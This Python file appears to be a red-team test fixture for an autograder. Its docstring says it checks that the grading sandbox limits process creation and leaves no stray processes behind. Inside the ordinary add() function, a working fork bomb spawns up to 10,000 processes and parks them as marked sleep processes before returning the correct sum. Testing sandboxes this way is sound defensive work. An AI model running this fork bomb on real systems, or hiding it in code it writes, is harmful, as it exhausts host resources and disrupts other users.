"""A fork bomb in add(): every process forks until the process limit stops it.

The original process then answers honestly (after holding the children for a
while); every other one parks as a `sleep` whose command line holds the
marker, so the test can count them on the host while grading runs and check
that none survive it. Expected: full
marks, "fork refused" printed, and no marker process after grading.
"""

import os
import time

import numpy as np

MARKER = "dlgrade-redteam-forkbomb-@@RUN@@"
MAX_FORKS = 10_000
HOLD_SECONDS = float("@@HOLD@@")  # how long add() keeps its children before answering


def _bomb() -> int:
    me = os.getpid()
    made = 0
    for _ in range(MAX_FORKS):
        try:
            pid = os.fork()
        except OSError as exc:
            if os.getpid() == me:
                print("fork refused after", made, "children:", type(exc).__name__)
            break
        if pid:
            made += 1
        else:
            made = 0  # the child keeps forking too
    if os.getpid() != me:
        try:
            os.execv("/bin/sleep", [MARKER, "600"])
        finally:
            os._exit(0)
    return made


def square(x):
    return x * x


def add(a, b):
    _bomb()
    time.sleep(HOLD_SECONDS)
    return a + b


def center(x):
    return x - np.mean(x)


def total(x):
    return float(np.sum(x))
